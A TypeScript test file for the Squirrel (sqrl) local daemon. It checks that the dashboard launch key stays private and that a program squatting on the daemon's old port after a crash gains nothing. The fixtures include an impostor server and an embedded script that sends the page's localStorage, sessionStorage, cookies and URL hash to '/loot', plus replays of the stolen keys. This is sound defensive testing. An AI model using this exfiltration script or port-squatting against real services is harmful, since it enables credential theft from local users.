import { spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingHttpHeaders, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { launcher } from '@sqrl/squirrel/cli/testing/process.ts';
import type { DaemonFile } from '@sqrl/squirrel/protocol/daemon-file.ts';
import { askDaemon } from '@sqrl/squirrel/protocol/http-ask.ts';
import { launchOf } from '@sqrl/squirrel/protocol/reach-daemon.ts';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { type Daemon, SLOW, signedBy, startBrowser, startDaemon } from './browser.ts';
import { chord } from './panel-home.ts';

const { PATH = '', NODE_COMPILE_CACHE = '' } = process.env;

let root: string;
let home: string;
let project: string;
let daemon: Daemon;
let browser: Browser;

beforeAll(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'sqrl-other-user-')));
  [home, project] = [join(root, '.sqrl'), join(root, 'shop')];
  for (const folder of [home, project]) mkdirSync(folder, { mode: 0o700 });
  writeFileSync(join(home, 'config.toml'), '[daemon]\nfollow = false\n');
  [daemon, browser] = await Promise.all([startDaemon(home, root), startBrowser()]);
  const path = `/v1/remember?project=${encodeURIComponent(project)}`;
  await askDaemon(daemon.file(), { path, body: { text: 'The kettle is in the cellar' } });
});

afterAll(async () => {
  await browser?.close();
  await daemon?.kill();
  rmSync(root, { recursive: true, force: true, maxRetries: 5 });
});

test('the browser is started with a private file, and no key is in its arguments', SLOW, async () => {
  const [seen, program] = [join(root, 'seen'), join(root, 'browser')];
  writeFileSync(program, `#!/bin/sh\nprintf '%s\\n' "$@" > '${seen}'\n`);
  chmodSync(program, 0o700);
  const { out, err } = await sqrl(['ui'], { BROWSER: program });
  expect(out).toBe('Opening the dashboard in your browser.\n');
  expect(err).toContain('sqrl ui --no-open');
  const args = readFileSync(seen, 'utf8');
  expect(args).toMatch(/^file:\/\/\S+\/panel-[0-9a-f]{16}\.html\n$/);
  const file = fileURLToPath(args.trim());
  expect([statSync(file).mode & 0o777, statSync(home).mode & 0o777]).toEqual([0o600, 0o700]);
  const key = /#key=([\w-]{43})"/.exec(readFileSync(file, 'utf8'))![1]!;
  expect(args).not.toContain(key);

  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.goto(args.trim());
  await page.locator('#content').waitFor();
  expect(page.url()).not.toContain('key');
  expect(existsSync(file)).toBe(false);
  expect(await context.cookies()).toEqual([]);

  const printed = await sqrl(['ui', '--no-open'], { BROWSER: program });
  expect(printed.out).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?at=shop-[0-9a-f]+#key=[\w-]{43}\n$/);
  expect(readFileSync(seen, 'utf8')).toBe(args);
});

test('whoever listens on the port after a crash gets nothing that opens the next daemon', SLOW, async () => {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  page.setDefaultTimeout(600_000);
  await page.goto(pathToFileURL((await launchOf(daemon.file())).file!).href);
  await page.locator('#content').waitFor();
  await chord(page, ['g', 'e'], /\/teach/);
  const field = page.getByRole('textbox', { name: 'What should be remembered' });
  await field.fill('My words are not for whoever listens here');

  const old = daemon.file();
  await daemon.kill();
  await daemon.start();
  const next = daemon.file();
  expect(next.port).not.toBe(old.port);
  await using impostor = await listenAt(old.port, next.port);

  // The page that is still open sends nothing of the person's, loads no code, and takes no answer for the daemon's.
  await page.getByText('Session expired.').first().waitFor();
  const before = impostor.heard.length;
  await field.press('Control+Enter');
  await expect.poll(() => impostor.heard.length).toBeGreaterThan(before);
  await page.getByRole('navigation').getByRole('link', { name: 'Map' }).click();
  await page.getByRole('navigation').getByRole('link', { name: 'Review' }).click();
  await page.waitForTimeout(1500);
  for (const { path, body } of impostor.heard.filter((one) => one.path !== '/favicon.svg'))
    expect([path, body]).toEqual([
      expect.stringMatching(/^\/v1\/hello\?nonce=[0-9a-f]{32}&page=[0-9a-f]{64}$/),
      '',
    ]);

  // Reloaded, it is the impostor's own page, which takes everything that the browser kept for this port.
  impostor.showOwnPage();
  await page.reload();
  await expect.poll(() => impostor.heard.some(({ path }) => path === '/loot')).toBe(true);
  const loot = JSON.parse(impostor.heard.find(({ path }) => path === '/loot')!.body);
  const pass: string = loot.storage['sqrl-pass'];
  expect(pass).toMatch(/^[0-9a-f]{64}$/);
  expect(loot.cookie).toBe('');

  // Nothing of it is worth anything to the daemon that runs now: neither as it was heard nor made anew of what was kept.
  for (const one of impostor.heard.filter(({ path }) => path.startsWith('/v1/')))
    expect([one.path, await replay(next, one)]).toEqual([one.path, 401]);
  for (const verb of ['list', 'settings', 'remember', 'projects']) {
    const sent = { method: 'POST', path: `/v1/${verb}`, body: '{}' };
    const headers = { 'content-type': 'application/json', 'x-sqrl-panel': signedBy(pass, sent) };
    expect([verb, await replay(next, { ...sent, headers })]).toEqual([verb, 401]);
  }
  const live = { method: 'GET', path: '/v1/live', body: '' };
  const headers = { 'x-sqrl-panel': signedBy(pass, live) };
  expect(await replay(next, { ...live, headers })).toBe(401);

  // The person opens the panel anew, at a port where nobody has left anything.
  await page.goto(pathToFileURL((await launchOf(next)).file!).href);
  await page.locator('#content').waitFor();
  expect(new URL(page.url()).port).toBe(String(next.port));
});

test('a launch key that meets an impostor opens nothing afterwards', SLOW, async () => {
  const { url } = await launchOf(daemon.file());
  const old = daemon.file();
  await daemon.kill();
  await daemon.start();
  await using impostor = await listenAt(old.port, daemon.file().port);
  impostor.showOwnPage();
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.goto(url);
  await expect.poll(() => impostor.heard.some(({ path }) => path === '/loot')).toBe(true);
  const key = JSON.parse(impostor.heard.find(({ path }) => path === '/loot')!.body).hash.slice(
    '#key='.length,
  );
  expect(url).toContain(key);
  const sent = { method: 'POST', path: '/v1/enter', body: '{"nonce":"0123456789abcdef"}' };
  const headers = { 'content-type': 'application/json', 'x-sqrl-panel': signedBy(key, sent) };
  expect(await replay(daemon.file(), { ...sent, headers })).toBe(401);
});

interface Heard {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** Takes everything that the browser kept for an origin, and hands it in. */
const OWN_PAGE = `<!doctype html><title>Squirrel</title><script>
  fetch('/loot', { method: 'POST', body: JSON.stringify({
    storage: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, hash: location.hash,
  }) });
</script>`;

/** A program of another user at the port of a daemon that has ended: it writes down what it hears, and asks the true daemon. */
async function listenAt(port: number, trueOne: number) {
  const heard: Heard[] = [];
  let ownPage = false;
  const server = createServer(async (asked, answer) => {
    let body = '';
    for await (const part of asked.setEncoding('utf8')) body += part;
    const one = { method: asked.method!, path: asked.url!, headers: asked.headers, body };
    heard.push(one);
    if (ownPage) return answer.setHeader('content-type', 'text/html').end(OWN_PAGE);
    const sent = request(forwarded(trueOne, one), (said) => {
      answer.writeHead(said.statusCode!, said.headers);
      said.pipe(answer);
    });
    sent.on('error', () => answer.destroy());
    sent.end(body);
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    heard,
    showOwnPage() {
      ownPage = true;
    },
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** A request as the page of another port would have sent it. */
const forwarded = (port: number, { method, path, headers }: Omit<Heard, 'body'>) => ({
  ...{ host: '127.0.0.1', port, method, path, agent: false as const },
  headers: {
    ...headers,
    host: `127.0.0.1:${port}`,
    ...(method === 'POST' && { origin: `http://127.0.0.1:${port}` }),
  },
});

function replay({ port }: DaemonFile, one: Heard): Promise<number> {
  return new Promise((resolve, reject) => {
    const sent = request(forwarded(port, one), (answer) => {
      answer.resume();
      resolve(answer.statusCode!);
      answer.destroy();
    });
    sent.on('error', reject);
    sent.end(one.body);
  });
}

/** Runs the built command, as a person would. */
function sqrl(argv: string[], env: Record<string, string>): Promise<{ out: string; err: string }> {
  const child = spawn(process.execPath, [launcher, ...argv], {
    cwd: project,
    env: { PATH, NODE_COMPILE_CACHE, HOME: root, SQRL_HOME: home, TMPDIR: root, ...env },
  });
  let [out, err] = ['', ''];
  child.stdout.setEncoding('utf8').on('data', (part) => (out += part));
  child.stderr.setEncoding('utf8').on('data', (part) => (err += part));
  return new Promise((resolve) => child.once('close', () => resolve({ out, err })));
}
